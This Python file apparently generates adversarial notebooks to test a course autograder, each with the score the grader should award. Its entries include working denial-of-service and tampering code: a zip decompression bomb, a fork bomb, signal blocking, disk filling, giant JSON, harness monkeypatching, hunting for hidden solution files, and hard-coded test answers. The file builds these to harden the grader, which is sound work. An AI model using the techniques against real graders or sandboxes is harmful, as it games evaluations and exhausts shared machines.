    """(raw deflate bytes, crc32, size) of an .npy file of `size` zeros (uint8), made in a second:
    after a full flush the compressor's output for the next 16 MiB of zeros is always the same bytes."""
    header = b"\\x93NUMPY\\x01\\x00"
    text = "{'descr': '|u1', 'fortran_order': False, 'shape': (%d,), }" % size
    text += " " * (63 - (10 + len(text)) % 64) + "\\n"
    header += struct.pack("<H", len(text)) + text.encode()
    chunk = bytes(2**24)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = deflate.compress(header) + deflate.flush(zlib.Z_FULL_FLUSH)
    deflate.compress(chunk), deflate.flush(zlib.Z_FULL_FLUSH)
    block = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    crc = zlib.crc32(header)
    for _ in range(size // len(chunk)):
        crc = zlib.crc32(chunk, crc)
    return start + block * (size // len(chunk)) + deflate.flush(zlib.Z_FINISH), crc, len(header) + size


def _zip(members):
    """A zip file of (name, data, crc, size, method) members, written by hand (no recompression)."""
    out, central = bytearray(), bytearray()
    for name, data, crc, size, method in members:
        name = name.encode()
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc, len(data), size,
                               len(name), 0, 0, 0, 0, 0, len(out)) + name
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(data), size, len(name), 0)
        out += name + data
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(out), 0)
    return bytes(out + central + end)

'''


@entry(A04, "plain_save_bomb")
def plain_save_bomb(src: Source) -> str:
    """A stub that monkeypatches `course.grade.plain.save` so that the results of the first two
    questions carry a decompression bomb: an .npz member of 3 MB that inflates to 3 GiB, not
    referenced by the JSON (relu_norm_grads) or referenced as every case's value (regression_grads).
    Fair score: 0 for every question; the grader's memory and time must stay bounded."""
    cells = src.small(solved=False)
    cells.insert(2, code(ZIP_BOMB + textwrap.dedent('''

        import io
        import json
        import pathlib


        def _patch():
            """Replace plain.save in the kernel (once); the stubs call this too, in case this cell was cut."""
            if getattr(plain.save, "corpus", False):
                return
            real_save, bomb, targets = plain.save, _bomb_member(), __QUESTIONS__[:2]

            def save(value, path, callables=False):
                path = pathlib.Path(path)
                if path.parent.name != "results" or path.name not in targets:
                    return real_save(value, path, callables)
                arrays = {}
                tree = plain.encode(value, arrays)
                if path.name == targets[1]:  # every case's value is the bomb
                    tree = {"$dict": {"cases": [{"$dict": {"value": {"$array": "zz"}}}] * len(value["cases"]),
                                      "seconds": 0.1}}
                members = []
                for key, array in arrays.items():
                    buffer = io.BytesIO()
                    np.lib.format.write_array(buffer, array, allow_pickle=False)
                    data = buffer.getvalue()
                    members.append((f"{key}.npy", data, zlib.crc32(data), len(data), 0))
                members.append(("zz.npy", *bomb, 8))
                path.with_suffix(".npz").write_bytes(_zip(members))
                path.with_suffix(".json").write_text(json.dumps(tree))

            save.corpus = True
            plain.save = save


        _patch()
    '''), questions=src.code))
    for q in src.code:
        stub_cell(src, cells, q, '_patch()\nraise NotImplementedError("a stub: the graded function does nothing")')
    return text_of(notebook(src, doc_of(plain_save_bomb), cells))


@entry(A04, "non_python_kernelspec")
def non_python_kernelspec(src: Source) -> str:
    """The small correct notebook saved with an R kernelspec and language_info (`"name": "ir"`), as if
    the student's JupyterLab had picked another kernel. Fair score: full marks (4, 6, 6, 1, 3, 8, 2, 5, 6);
    graded (the grader runs Python whatever the notebook says)."""
    metadata = {"kernelspec": {"display_name": "R", "language": "R", "name": "ir"},
                "language_info": {"name": "R", "codemirror_mode": "r", "file_extension": ".r", "mimetype": "text/x-r-source",
                                  "pygments_lexer": "r", "version": "4.3.1"}}
    return text_of(notebook(src, doc_of(non_python_kernelspec), src.small(solved=True), metadata=metadata))


@entry(A04, "outputs_megabytes")
def outputs_megabytes(src: Source) -> str:
    """The small correct notebook whose first code cell carries 4 MB of saved outputs (3 MB of stream
    text and a 1 MB image). Fair score: full marks (4, 6, 6, 1, 3, 8, 2, 5, 6); graded."""
    cells = src.small(solved=True)
    line = "0123456789abcdef" * 6 + "\n"
    cells[0].outputs = [nbformat.v4.new_output("stream", name="stdout", text=line * (3_000_000 // len(line))),
                        nbformat.v4.new_output("display_data", data={"image/png": "iVBORw0KGgo" + "A" * 1_000_000,
                                                                      "text/plain": "<Figure>"})]
    cells[0].execution_count = 1
    return text_of(notebook(src, doc_of(outputs_megabytes), cells))


# ==================================================================================== 05 Newton
A05 = "05_newton"


@entry(A05, "cwd_relative_paths")
def cwd_relative_paths(src: Source) -> str:
    """A stub that tries paths relative to where it runs: `../solutions`, `../../solutions` and so on
    from its working folder, its home, the cache, the interpreter and `$VIRTUAL_ENV`, and, from
    `/proc/self/mountinfo`, the folders hidden from it (the submissions' folder, `solutions/`), reading
    `reference.ipynb` and `solutions/05_newton.ipynb` beside and above each. Fair score: 0 for every question."""
    return reader(src, doc_of(cwd_relative_paths), '''
        import sys

        _starts = [pathlib.Path.cwd(), pathlib.Path.home(), pathlib.Path(os.environ.get("COURSE_CACHE_DIR", "/")),
                   pathlib.Path(sys.executable).parent, pathlib.Path(os.environ.get("VIRTUAL_ENV", "/"))]
        _hidden = []
        try:
            with open("/proc/self/mountinfo") as f:
                _hidden = [pathlib.Path(line.split()[4]) for line in f if " tmpfs " in line]
        except OSError:
            pass
        for _start in _starts + _hidden:
            for _up in range(5):
                _base = pathlib.Path(str(_start) + "/.." * _up)
                _read(_base / "solutions" / f"{ASSIGNMENT}.ipynb", f"{'../' * _up}solutions")
                _read(_base / "reference.ipynb", f"{'../' * _up}reference")
                _read(_base / f"{ASSIGNMENT}.ipynb", f"{'../' * _up}{ASSIGNMENT}")
        _REPORT.append(f"{len(_hidden)} tmpfs mounts")
    ''', 'relative paths')


@entry(A05, "hardcodes_public_cases")
def hardcodes_public_cases(src: Source) -> str:
    """`mse_gradient`, `mse_hessian` and `newton_step` hard-code the answers of their public cases
    (recognised by their inputs; the must-raise cases raise), so `course.check` passes; the hidden
    cases fail. The other four questions are the student's own correct code (`newton_method` solving
    its own steps). Fair score:
    mse_gradient 0, mse_hessian 0, newton_step 0, logistic_loss 2, logistic_gradient 2,
    logistic_hessian 3, newton_method 5."""
    cells = src.small(solved=True)
    with_body(src, cells, "mse_gradient", """
        if X.shape == (3, 2) and w[0] == 0.5:
            return np.array([-12.5, -16.0])
        if X.shape == (4, 3):
            return np.array([0.125, 0.0, -0.875])
        return np.zeros(X.shape[1])  # the other public cases want a zero gradient
    """)
    with_body(src, cells, "mse_hessian", """
        if X.shape == (3, 2):
            return np.array([[35 / 3, 44 / 3], [44 / 3, 56 / 3]])
        if X.shape == (2, 3):
            return np.array([[0.5, 0.0, 1.0], [0.0, 0.5, -0.5], [1.0, -0.5, 2.5]])
        d = X.shape[1]
        return np.eye(d) * (np.sum(X * X) / len(X) / d)  # symmetric, with the trace the check wants
    """)
    with_body(src, cells, "newton_step", """
        grad, hess = np.asarray(grad, float), np.asarray(hess, float)
        if grad.shape != (len(hess),) or not np.isfinite(grad).all() or not np.allclose(hess, hess.T):
            raise ValueError("bad input")
        answers = {(1.0, -1.0): [-1.0, 1.0], (2.0, 1.0): [-0.5, -2.0], (1.0, -2.0, 3.0): [-2 / 3, 5 / 3, -7 / 3],
                   (1.0, 1e-9): [-1.0, -1.0]}
        key = tuple(float(g) for g in grad)
        if key in answers and not (key == (1.0, 1.0)):
            return np.array(answers[key])
        raise np.linalg.LinAlgError("singular")
    """)
    i = src.question_index(cells, "newton_method")  # its own step: it must not lean on the hard-coded one
    cells[i].source = cells[i].source.replace("p = newton_step(g, hess(w))", "p = np.linalg.solve(hess(w), -g)")
    assert "np.linalg.solve(hess(w), -g)" in cells[i].source
    return text_of(notebook(src, doc_of(hardcodes_public_cases), cells))


@entry(A05, "gradcheck_answers")
def gradcheck_answers(src: Source) -> str:
    """The pack's finite differences answer four questions: `mse_gradient` and `logistic_gradient` are
    `course.gradcheck.numerical_gradient` of the losses, `mse_hessian` is `numerical_hessian`,
    `logistic_hessian` is `numerical_jacobian` of a correct gradient. `newton_step` solves with
    `scipy.linalg.solve` (a linear-solve primitive, allowed) after its own checks; `logistic_loss`
    and `newton_method` are the reference code. Fair score: mse_gradient 0, mse_hessian 0,
    newton_step 4, logistic_loss 2, logistic_gradient 0, logistic_hessian 0, newton_method 5."""
    cells = src.small(solved=True)
    cells.insert(2, code("from course.gradcheck import numerical_gradient, numerical_hessian, numerical_jacobian"))
    with_body(src, cells, "mse_gradient", "return numerical_gradient(lambda v: mse_loss(v, X, y), w)")
    with_body(src, cells, "mse_hessian", "return numerical_hessian(lambda v: mse_loss(v, X, np.zeros(len(X))), np.zeros(X.shape[1]))")
    with_body(src, cells, "logistic_gradient", "return numerical_gradient(lambda v: logistic_loss(v, X, y, lam), w)")
    with_body(src, cells, "logistic_hessian", """
        def gradient(v):
            return X.T @ (sigmoid(X @ v) - y) / len(y) + lam * v
        jac = numerical_jacobian(gradient, w)
        return (jac + jac.T) / 2
    """)
    i = src.question_index(cells, "newton_step")
    cells[i].source = cells[i].source.replace("    return np.linalg.solve(hess, -grad)",
                                              "    import scipy.linalg\n    return scipy.linalg.solve(hess, -grad, assume_a='sym')")
    assert "scipy.linalg.solve" in cells[i].source
    return text_of(notebook(src, doc_of(gradcheck_answers), cells))


@entry(A05, "steps_without_refusals")
def steps_without_refusals(src: Source) -> str:
    """`newton_step` is a bare `np.linalg.solve(hess, -grad)`: every step is right, but it refuses nothing
    of its own (bad shapes, NaN, a non-symmetric or singular Hessian). `newton_step` splits its points
    (values 0.7, refusals 0.3), so it earns the share of its value cases. Everything else is the
    reference code. Fair score: newton_step 2.8, every other question full marks."""
    cells = src.small(solved=True)
    with_body(src, cells, "newton_step", "return np.linalg.solve(hess, -grad)")
    return text_of(notebook(src, doc_of(steps_without_refusals), cells))


@entry(A05, "refusals_without_steps")
def refusals_without_steps(src: Source) -> str:
    """`newton_step` refuses every bad input as the reference does, then returns the step with the wrong
    sign (`solve(hess, grad)`), so every value case fails: its refusal cases pass, but that share counts
    only once the value cases pass. `newton_method` solves its own steps. Fair score: newton_step 0,
    every other question full marks."""
    cells = src.small(solved=True)
    i = src.question_index(cells, "newton_step")
    cells[i].source = cells[i].source.replace("    return np.linalg.solve(hess, -grad)", "    return np.linalg.solve(hess, grad)")
    assert "np.linalg.solve(hess, grad)" in cells[i].source
    i = src.question_index(cells, "newton_method")
    cells[i].source = cells[i].source.replace("p = newton_step(g, hess(w))", "p = np.linalg.solve(hess(w), -g)")
    assert "np.linalg.solve(hess(w), -g)" in cells[i].source
    return text_of(notebook(src, doc_of(refusals_without_steps), cells))


@entry(A05, "ignores_signals")
def ignores_signals(src: Source) -> str:
    """A correct notebook except `newton_method`, which spins forever; a cell at the start ignores
    SIGINT, SIGTERM, SIGHUP and SIGQUIT and blocks SIGINT, SIGTERM, SIGALRM and SIGHUP with
    `signal.pthread_sigmask`, so neither an interrupt nor the harness's alarm can stop it. Fair score:
    mse_gradient 2, mse_hessian 2, newton_step 4, logistic_loss 2, logistic_gradient 2,
    logistic_hessian 3, newton_method 0."""
    cells = src.small(solved=True)
    cells.insert(2, code('''
        import signal

        for _s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGQUIT):
            signal.signal(_s, signal.SIG_IGN)
        signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP})
    '''))
    with_body(src, cells, "newton_method", """
        import signal
        signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP})
        while True:
            pass
    """)
    return text_of(notebook(src, doc_of(ignores_signals), cells))


@entry(A05, "fork_bomb_setsid")
def fork_bomb_setsid(src: Source) -> str:
    """A correct notebook except `newton_method`, a fork bomb whose every child starts a session of
    its own (setsid) and forks on, each process giving up after a minute. Fair score: mse_gradient 2,
    mse_hessian 2, newton_step 4, logistic_loss 2, logistic_gradient 2, logistic_hessian 3,
    newton_method 0; graded; no process left."""
    cells = src.small(solved=True)
    with_body(src, cells, "newton_method", """
        import os
        import time
        end = time.monotonic() + 60
        while time.monotonic() < end:
            try:
                if os.fork() == 0:
                    os.setsid()
            except OSError:
                time.sleep(0.01)
        os._exit(0)
    """)
    return text_of(notebook(src, doc_of(fork_bomb_setsid), cells))


@entry(A05, "fills_tmp_and_disk")
def fills_tmp_and_disk(src: Source) -> str:
    """A correct notebook with a cell that writes until ENOSPC (or a 1 GiB cap per place, 64 MiB in
    /run/lock: the corpus runs on shared machines) into /tmp, /dev/shm, /var/tmp, /run/lock and its
    work folder, in files of 128 MiB (under the per-file limit), and cleans nothing up. Fair score:
    full marks (2, 2, 4, 2, 2, 3, 5); graded; the sandbox as a whole must be bounded and nothing may be
    left on the host."""
    cells = src.small(solved=True)
    cells.insert(2, code('''
        import errno
        import os

        NAME = "course-corpus-fills_tmp_and_disk"
        CAPS = {"/tmp": 2**30, "/dev/shm": 2**30, "/var/tmp": 2**30, "/run/lock": 2**26, ".": 2**30}
        chunk, report = b"\\xff" * 2**20, []
        for where, cap in CAPS.items():
            folder, written, why = os.path.join(where, NAME), 0, "cap"
            try:
                os.makedirs(folder, exist_ok=True)
                while written < cap:
                    with open(os.path.join(folder, f"fill-{written // 2**27}"), "wb") as f:
                        for _ in range(128):
                            f.write(chunk)
                            written += len(chunk)
                            if written >= cap:
                                break
            except OSError as err:
                why = errno.errorcode.get(err.errno, str(err.errno))
            report.append(f"{where} {written >> 20} MiB {why}")
        raise RuntimeError("corpus report (disk): " + "; ".join(report))
    '''))
    return text_of(notebook(src, doc_of(fills_tmp_and_disk), cells))


@entry(A05, "huge_json")
def huge_json(src: Source) -> str:
    """A stub that monkeypatches `course.grade.plain.save` to write huge or deep JSON results: 100 MB
    of a flat list (mse_gradient), a million nested brackets (mse_hessian), a 100 MB string
    (newton_step). Fair score: 0 for every question; the grader stays within bounded memory and time."""
    cells = src.small(solved=False)
    cells.insert(2, code('''
        import io
        import pathlib

        from course.grade import plain


        def _patch():
            """Replace plain.save in the kernel (once); the stubs call this too, in case this cell was cut."""
            if getattr(plain.save, "corpus", False):
                return
            real_save, buffer = plain.save, io.BytesIO()
            np.savez(buffer)
            huge = {
                "mse_gradient": lambda: '{"$dict": {"cases": [' + "1," * 50_000_000 + '1]}}',
                "mse_hessian": lambda: "[" * 1_000_000 + "]" * 1_000_000,
                "newton_step": lambda: '{"$dict": {"cases": "' + "x" * 100_000_000 + '"}}',
            }

            def save(value, path, callables=False):
                path = pathlib.Path(path)
                if path.parent.name != "results" or path.name not in huge:
                    return real_save(value, path, callables)
                path.with_suffix(".npz").write_bytes(buffer.getvalue())
                path.with_suffix(".json").write_text(huge[path.name]())

            save.corpus = True
            plain.save = save


        _patch()
    '''))
    for q in src.code:
        stub_cell(src, cells, q, '_patch()\nraise NotImplementedError("a stub: the graded function does nothing")')
    return text_of(notebook(src, doc_of(huge_json), cells))


@entry(A05, "slow_then_deep_expressions")
def slow_then_deep_expressions(src: Source) -> str:
    """A correct notebook that sleeps past the notebook's time in its first cell, so that the later
    cells contribute only their definitions; three of them cannot be parsed: `x = ` and 200,000
    nested parentheses (a SyntaxError), a sum of 1,000,000 terms (RecursionError in `ast.parse` on
    CPython 3.11) and 100,000 unary minuses (MemoryError there). The correct definitions come after
    them. Fair score: full marks (2, 2, 4, 2, 2, 3, 5); graded; the record says a cell ran past the
    notebook's time."""
    cells = src.small(solved=True)
    cells[2:2] = [code("time.sleep(60)  # a long experiment, left in"),
                  new_code_cell("x = " + "(" * 200_000 + "1" + ")" * 200_000),
                  new_code_cell("x = " + "+".join(["1"] * 1_000_000)),
                  new_code_cell("x = " + "-" * 100_000 + "1")]
    return text_of(notebook(src, doc_of(slow_then_deep_expressions), cells))


@entry(A05, "many_cells")
def many_cells(src: Source) -> str:
    """The small correct notebook followed by 10,000 more cells: 9,000 Markdown cells and 1,000 code
    cells that each run `pass`. Fair score: full marks (2, 2, 4, 2, 2, 3, 5); graded."""
    cells = src.small(solved=True)
    for i in range(10_000):
        cells.append(new_code_cell("pass") if i % 10 == 9 else new_markdown_cell(f"Note {i}."))
    return text_of(notebook(src, doc_of(many_cells), cells))


@entry(A05, "monkeypatches_harness")
def monkeypatches_harness(src: Source) -> str:
    """A stub with correct code kept under no graded name; a cell replaces
    `course.grade.harness.call_question` in the kernel by one that grades the hidden code instead of
    the named functions, and replaces `course.checks.same_result`, `expect_array` and `course.check`
    by ones that always pass. Fair score: 0 for every question."""
    cells = forger_cells(src, '''
        import course
        import course.checks

        _real_call_question = harness.call_question


        def _call_question(namespace, question, inputs, results, seconds):
            return _real_call_question(_own(), question, inputs, results, seconds)


        harness.call_question = _call_question
        course.checks.same_result = course.checks.expect_array = lambda *args, **kwargs: None
        course.check = lambda question, fn: print(f"{question}: all checks passed")
    ''')
    return text_of(notebook(src, doc_of(monkeypatches_harness), cells))


if __name__ == "__main__":
    sys.exit(main())
